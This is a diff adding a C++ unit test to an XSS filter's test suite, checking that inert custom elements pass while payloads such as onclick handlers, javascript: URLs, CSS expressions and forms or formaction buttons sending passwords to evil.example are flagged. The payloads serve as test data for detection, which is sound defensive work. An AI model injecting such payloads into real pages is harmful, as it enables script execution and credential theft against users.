@@ -175,6 +175,26 @@ TEST(XssRichText, EditorMarkupIsAllowed) {
   }
 }
 
+// Elements no HTML parser gives a behaviour to (an XML sample in a ticket, a template's own
+// tags) are inert with ordinary attributes; a handler, a script URL, a style or an active
+// HTML element still counts.
+TEST(XssRichText, CustomElementsWithOrdinaryAttributesAreInert) {
+  for (const char* v :
+       {"XML sample: <order id=\"5\"><item sku=\"A1\" qty=\"2\"/></order>",
+        "<user name=\"bob\" role=\"admin\"/>", "<custom-el data-x=\"1\">hi</custom-el>"}) {
+    Verdict r = InspectQueryValue(v);
+    EXPECT_FALSE(Flagged(r)) << v << " -> " << r.explanation;
+  }
+  for (const char* v :
+       {"<x onclick=alert(1)>click", "<x href=\"javascript:alert(1)\">x</x>",
+        "<xss style=\"x:expression(alert(1))\">",
+        "<form action=\"https://evil.example/login\"><input name=\"pw\" type=\"password\"></form>",
+        "<button form=\"f\" formaction=\"https://evil.example/\">go</button>"}) {
+    Verdict r = InspectQueryValue(v);
+    EXPECT_TRUE(Flagged(r)) << v << " -> " << r.explanation;
+  }
+}
+
 TEST(XssRichText, SameTagsWithActiveOrUnusualAttributesAreBlocked) {
   for (const char* v : {
            "<a href=\"javascript:alert(1)\">x</a>",
